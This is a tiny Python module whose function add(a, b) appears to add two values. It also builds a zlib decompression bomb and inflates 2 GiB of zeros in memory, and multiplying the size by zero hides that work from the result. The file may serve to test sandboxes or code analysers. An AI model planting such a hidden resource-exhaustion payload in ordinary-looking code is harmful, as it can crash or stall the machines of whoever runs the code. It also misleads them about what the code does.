"""A compressed text of 2 GiB."""

import zlib


def add(a, b):
    packed = zlib.compressobj()
    bomb = b"".join(packed.compress(bytes(1 << 24)) for _ in range(128)) + packed.flush()
    return a + b + 0 * len(zlib.decompress(bomb))
